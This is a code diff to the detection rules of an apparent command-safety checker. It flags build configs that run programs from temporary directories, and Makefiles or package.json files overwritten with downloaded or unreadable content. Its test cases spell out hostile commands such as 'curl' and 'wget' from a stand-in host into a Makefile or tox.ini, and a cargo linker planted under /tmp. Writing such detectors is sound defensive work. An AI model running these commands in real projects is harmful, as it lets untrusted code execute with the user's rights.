@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import re
 
+from automode.files.runs import TEMP_PROGRAM, temp_script
 from automode.rules.base import rule
 from automode.rules.writes import E, W
 from automode.typing_lite import TYPE_CHECKING
@@ -104,10 +105,6 @@ def project_git_hook(e: Effect, a: Analysis) -> str | None:
     return f"writes the git hook {e.target}" if project_hook(e, a) else None
 
 
-#: Temporary and download directories: anyone (or any earlier download) can put a program there.
-TEMP_PROGRAM = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm|/private/tmp|/private/var/folders|/run/user/\d+)/|/Downloads/")
-
-
 @rule(
     "AM-WRITE-018",
     category="remote-exec",
@@ -118,23 +115,32 @@ TEMP_PROGRAM = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm|/private/tmp|/private/var
     release={"update", "create"},
     title="Makes a tool run a program from a temporary directory",
     what="A file that something runs later (a cargo `linker`/`runner`/`rustc-wrapper`, an npm `script-shell`, a git "
-    "setting, a hook, a task) that names a program under /tmp, /var/tmp, /dev/shm or a Downloads folder.",
+    "setting, a hook, a task) that names a program under /tmp, /var/tmp, /dev/shm or a Downloads folder, or a script "
+    "or file it reads there (`sh /tmp/x.sh`, `node --require /tmp/x.js`, a makefile's `include /tmp/x.mk`, a "
+    "justfile's `import`).",
     why="Every build or command then runs whatever sits at that path: anyone who can write there, or any earlier "
     "download, decides what runs with the user's rights.",
     example='.cargo/config.toml: linker = "/tmp/.ldcache/ld-fast"',
     instead="Use an installed tool by name (`clang`, `mold`) or one inside the project, and say why it is needed.",
     must_match=[W(".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nlinker = "/tmp/.ldcache/ld-fast"\n'),
-                W(".npmrc", "script-shell=/dev/shm/sh\n")],
+                W(".npmrc", "script-shell=/dev/shm/sh\n"), W("Makefile", "include /tmp/x.mk\ntest:\n\tpytest\n"),
+                W("package.json", '{"scripts": {"test": "sh /tmp/x.sh && jest"}}'), W("justfile", "import '/tmp/x.just'\n")],
     must_not_match=[W(".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nlinker = "clang"\nrustflags = ["-C", "link-arg=-fuse-ld=lld"]\n'),
-                    "/tmp/build/app --help"],
+                    "/tmp/build/app --help", W("Makefile", "include common.mk\ntest:\n\tsh scripts/test.sh\n"),
+                    W("package.json", '{"scripts": {"test": "node --require ./setup.js test.js"}}')],
 )  # fmt: skip
 def program_in_temp(cmd: Command, a: Analysis) -> str | None:
     if not cmd.via or not cmd.via[0].startswith("runs-later ") or not cmd.argv:
         return None
     prog = cmd.argv[0].value
     if cmd.argv[0].dynamic or not TEMP_PROGRAM.search(prog):
-        return None
+        script = temp_script(cmd)
+        if script is None:
+            return None
+        return f"{cmd.via[0][11:]} runs {script}, a file in a temporary or download directory"
     return f"{cmd.via[0][11:]} runs {prog}, a program in a temporary or download directory"
+
+
 
 
 @rule(
@@ -165,3 +171,31 @@ def program_in_temp(cmd: Command, a: Analysis) -> str | None:
 )  # fmt: skip
 def later_trigger(e: Effect, a: Analysis) -> str | None:
     return f"{e.target} ({e.detail})" if e.origin.startswith("later-") else None
+
+
+@rule(
+    "AM-PERSIST-012",
+    category="persistence",
+    verdict="ask",
+    kind="effect",
+    names={"write"},
+    release={"create", "update", "run", "install", "network"},
+    title="Rewrites a file something runs with text only known at run time",
+    what="A Makefile, package.json, justfile, tox.ini, CI workflow or other file of `files.executed` rewritten with a "
+    "program's output that automode cannot read: a download (`curl URL > Makefile`), a file outside the project "
+    "(`cat /tmp/x | sponge justfile`), a program read from a file (`jq -f /tmp/p.jq`), unknown input "
+    "(`files.opaque_runs`). A filter whose program is on the command line is read for what it puts in instead.",
+    why="The next `make`, `npm test` or CI run runs whatever the text turned out to be, and nothing reads it before.",
+    example="curl -s https://x.example/mk > Makefile",
+    instead="Write the change with the Write or Edit tool (or a filter whose program shows it), so it can be read.",
+    must_match=["curl -s https://x.example/mk > Makefile", "cat /tmp/unknown | sponge package.json",
+                "cat /tmp/x | tee justfile", "wget -qO- https://x.example/t | dd of=tox.ini",
+                "jq -f /tmp/p.jq package.json > /tmp/p && mv /tmp/p package.json"],
+    must_not_match=["jq '.version=\"1.2.3\"' package.json | sponge package.json", "cat Makefile.in > Makefile",
+                    "sed 's/py38/py311/' tox.ini > tox.ini.new", "curl -s https://x.example/data.json > data.json",
+                    "jq '.version=\"1.2.3\"' package.json > /tmp/p && mv /tmp/p package.json"],
+)  # fmt: skip
+def opaque_run(e: Effect, a: Analysis) -> str | None:
+    if e.origin != "opaque-run":
+        return None
+    return e.detail + ", and what it will run is only known once written"
